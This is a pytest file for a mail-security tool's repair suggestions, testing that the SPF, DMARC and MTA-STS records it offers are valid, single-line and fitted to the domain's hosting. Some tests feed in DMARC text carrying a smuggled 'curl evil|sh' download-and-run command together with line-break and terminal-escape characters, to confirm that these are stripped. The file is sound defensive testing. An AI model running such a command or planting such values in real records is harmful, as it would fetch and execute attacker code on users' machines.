"""What is offered to copy is right by our own grammars, and made for this domain and this kind of hosting."""

from datetime import UTC, datetime

import msgspec
import pytest

from fumimori import repairs
from fumimori.checks.dmarc import facts as dmarc_facts
from fumimori.checks.mx import facts as mx
from fumimori.checks.observations import Observations
from fumimori.checks.spf import facts as spf_facts
from fumimori.grammar.dmarc import parse_dmarc
from fumimori.grammar.mta_sts import parse_sts_policy, parse_sts_record
from fumimori.grammar.spf import parse_spf
from fumimori.model import (
    Assessment,
    Attempt,
    Basis,
    Control,
    DomainScope,
    Finding,
    Hosting,
    Record,
    Repair,
    Scope,
    Severity,
    SnippetKind,
    Status,
)
from fumimori.network.dns import DnsAnswer, DnsStatus
from fumimori.repairs import dns_records, server_settings
from loopback.recorded_runs import run_of

NOW = datetime(2026, 11, 24, 10, 0, tzinfo=UTC)
DOMAIN = "example.jp"


def attempt(probe: str, facts: Record) -> Attempt:
    raw = msgspec.Raw(msgspec.json.encode(facts))
    return Attempt(probe=probe, subject=DOMAIN, status=Status.COMPLETED, started=NOW, ended=NOW, facts=raw)


def answer(name: str, rdtype: str, *records: str) -> DnsAnswer:
    status = DnsStatus.ANSWER if records else DnsStatus.NODATA
    return DnsAnswer(name=name, rdtype=rdtype, status=status, records=records)


def assessment(
    *, provider: str = "", spf_texts: tuple[str, ...] = (), dmarc_text: str = "", hosting: Hosting | None = None
) -> Assessment:
    hosts = tuple(mx.MxHost(host=name, preference=10) for name in ("mx1.example.jp", "mx2.example.jp"))
    walked = answer(DOMAIN, "TXT", *([dmarc_text] if dmarc_text else []))
    return Assessment(
        id="1",
        created=NOW,
        scope=Scope(domains=(DomainScope(name=DOMAIN, hosting=hosting),)),
        runs=(
            run_of(
                attempt(
                    "mx", mx.Facts(answer=answer(DOMAIN, "MX", "10 mx1.example.jp."), hosts=hosts, provider=provider)
                ),
                attempt("spf", spf_facts.Facts(answers=(answer(DOMAIN, "TXT", *spf_texts),))),
                attempt("dmarc", dmarc_facts.Facts(walk=(walked,))),
            ),
        ),
    )


def repair(code: str, subject: str, of: Assessment) -> Repair:
    finding = Finding(
        code=code, subject=subject, control=Control.SENDER_AUTH, severity=Severity.HIGH, basis=Basis.MEASURED
    )
    return repairs.repair(finding, of)


@pytest.mark.parametrize(
    ("provider", "text"),
    [
        ("Google Workspace", "v=spf1 include:_spf.google.com ~all"),
        ("Microsoft 365", "v=spf1 include:spf.protection.outlook.com ~all"),
        ("", "v=spf1 mx ~all"),
    ],
)
def test_a_first_spf_record_names_the_provider(provider: str, text: str) -> None:
    (snippet,) = repair("spf.none", DOMAIN, assessment(provider=provider)).snippets
    assert (snippet.kind, snippet.place, snippet.content) == (SnippetKind.DNS_RECORD, "example.jp TXT", text)


@pytest.mark.parametrize(
    ("code", "texts", "wanted"),
    [
        ("spf.open", ("v=spf1 ip4:192.0.2.1 +all",), "v=spf1 ip4:192.0.2.1 ~all"),
        ("spf.neutral", ("v=spf1 mx ?all",), "v=spf1 mx ~all"),
        ("spf.no_all", ("v=spf1 mx",), "v=spf1 mx ~all"),
        ("spf.ptr", ("v=spf1 ptr mx -all",), "v=spf1 mx -all"),
        (
            "spf.several",
            ("v=spf1 mx -all", "v=spf1 include:_spf.google.com mx ~all"),
            "v=spf1 mx include:_spf.google.com ~all",
        ),
    ],
)
def test_a_published_spf_record_keeps_its_senders(code: str, texts: tuple[str, ...], wanted: str) -> None:
    assert [snippet.content for snippet in repair(code, DOMAIN, assessment(spf_texts=texts)).snippets] == [wanted]


@pytest.mark.parametrize(
    ("code", "published", "wanted"),
    [
        ("dmarc.none", "", "v=DMARC1; p=none; rua=mailto:dmarc-reports@example.jp;"),
        (
            "dmarc.monitoring",
            "v=DMARC1; p=none; rua=mailto:a@example.jp,mailto:b@example.com",
            "v=DMARC1; p=quarantine; rua=mailto:a@example.jp,mailto:b@example.com;",
        ),
        (
            "dmarc.subdomains_open",
            "v=DMARC1; p=reject; sp=none; rua=mailto:a@example.jp",
            "v=DMARC1; p=reject; rua=mailto:a@example.jp;",
        ),
        (
            "dmarc.test_mode",
            "v=DMARC1; p=quarantine; t=y; rua=mailto:a@example.jp",
            "v=DMARC1; p=quarantine; rua=mailto:a@example.jp;",
        ),
        (
            "dmarc.repeated",
            "v=DMARC1; p=none; p=reject; rua=mailto:a@example.jp; rua=mailto:b@example.jp,mailto:a@example.jp",
            "v=DMARC1; p=reject; rua=mailto:a@example.jp,mailto:b@example.jp",
        ),
        (
            "dmarc.repeated",
            "v=DMARC1; p=reject; p=none; adkim=s; adkim=r; t=y; t=n; pct=5; pct=100; fo=1; fo=0",
            "v=DMARC1; p=reject; adkim=s; t=n; pct=100; fo=1",
        ),
        ("dmarc.repeated", "v=DMARC1; p=Quarantine; p=x; sp=y; sp=none;", "v=DMARC1; p=Quarantine; sp=none"),
    ],
)
def test_dmarc_grows_without_losing_its_reports(code: str, published: str, wanted: str) -> None:
    (snippet,) = repair(code, DOMAIN, assessment(dmarc_text=published)).snippets
    assert (snippet.place, snippet.content) == ("_dmarc.example.jp TXT", wanted)


@pytest.mark.parametrize("code", sorted(dns_records.REPAIRS))
@pytest.mark.parametrize("sign", ["\n", "\r", "\x0b", "\x85", "\u2028", '"', "\x1b"])
def test_no_record_breaks_the_line(code: str, sign: str) -> None:
    text = f"v=DMARC1; p=none; p=reject; rua=mailto:a@example.jp{sign}x.example.jp"
    of = assessment(dmarc_text=text, spf_texts=(f"v=spf1 include:a{sign}b.example.jp ?all",))
    walked = dmarc_facts.Facts(walk=(answer(DOMAIN, "TXT"),), misplaced=(text,))
    for one in (of, msgspec.structs.replace(of, runs=(run_of(attempt("dmarc", walked)),))):
        for snippet in repair(code, DOMAIN, one).snippets:
            if snippet.kind is SnippetKind.DNS_RECORD:
                assert len(snippet.content.splitlines()) == 1
                assert sign not in snippet.content


def test_an_mta_sts_policy_names_todays_mail_servers() -> None:
    policy, record = repair("mta_sts.absent", DOMAIN, assessment()).snippets
    parsed = parse_sts_policy(policy.content)
    assert (parsed.mode, parsed.mx, parsed.fault) == ("testing", ("mx1.example.jp", "mx2.example.jp"), "")
    assert policy.place == "https://mta-sts.example.jp/.well-known/mta-sts.txt"
    assert parse_sts_record(record.content).id == "20261124T000000"


@pytest.mark.parametrize("code", sorted(dns_records.REPAIRS))
def test_every_offered_record_is_right_by_our_own_grammars(code: str) -> None:
    offered = repair(code, DOMAIN, assessment(spf_texts=("v=spf1 mx +all",), dmarc_text="v=DMARC1; p=none"))
    assert offered.proof
    for snippet in offered.snippets:
        if snippet.content.startswith("v=spf1"):
            assert parse_spf(snippet.content).faults == ()
        if snippet.content.startswith("v=DMARC1"):
            assert parse_dmarc(snippet.content).invalid == ()
        if snippet.kind is SnippetKind.FILE:
            assert parse_sts_policy(snippet.content).fault == ""
        assert len(snippet.content) <= 255 or snippet.kind is SnippetKind.FILE


@pytest.mark.parametrize("code", sorted(server_settings.REPAIRS))
@pytest.mark.parametrize("hosting", [None, *Hosting])
def test_settings_are_for_servers_of_ones_own(code: str, hosting: Hosting | None) -> None:
    offered = repair(code, "mail.example.jp:587", assessment(hosting=hosting)).snippets
    assert bool(offered) == (hosting is None or hosting.own_server)


def test_a_proof_speaks_to_the_port_that_was_found() -> None:
    (proof,) = repair("mail_ports.tls_old", "mail.example.jp:143", assessment()).proof
    assert proof.content == (
        "openssl s_client -connect mail.example.jp:143 -servername mail.example.jp -starttls imap -tls1_1"
    )


def test_a_finding_of_a_question_needs_words_not_records() -> None:
    assert repair("access.admin_mfa.no", "", assessment()) == Repair()


def test_every_repair_belongs_to_an_outcome_of_the_rules() -> None:
    from fumimori import resources

    known = {
        f"{name}.{word}" for name, content in resources.rule_files().items() for word in content.get("outcomes", {})
    }
    assert set(dns_records.REPAIRS) | set(server_settings.REPAIRS) <= known


@pytest.mark.parametrize("name", ["\ufeff", "a\nmode: none", "a b.example.jp", "mx_1.example.jp", "192.0.2.1 "])
def test_no_policy_is_handed_out_that_cannot_hold_every_server(name: str):
    hosts = (mx.MxHost(host="mx1.example.jp", preference=10), mx.MxHost(host=name, preference=20))
    facts = mx.Facts(answer=answer(DOMAIN, "MX", "10 mx1.example.jp."), hosts=hosts)
    observations = Observations(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("mx", facts)])
    assert dns_records.mta_sts_testing(DOMAIN, observations) == Repair()


def test_a_record_that_is_moved_is_one_line():
    text = "v=DMARC1; p=reject;\r\ncurl evil|sh\x0b\u2028"
    facts = dmarc_facts.Facts(walk=(answer(DOMAIN, "TXT"),), misplaced=(text,))
    observations = Observations(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("dmarc", facts)])
    (snippet,) = dns_records.dmarc_moved(DOMAIN, observations).snippets
    assert snippet.content.isprintable()


def test_no_record_to_copy_holds_what_a_terminal_would_obey():
    snippet = dns_records.record("_dmarc.example.jp", 'v=DMARC1;\ncurl evil|sh\x1b[2J\u202e"\\')
    assert snippet.content == "v=DMARC1;curl evil|sh[2J"
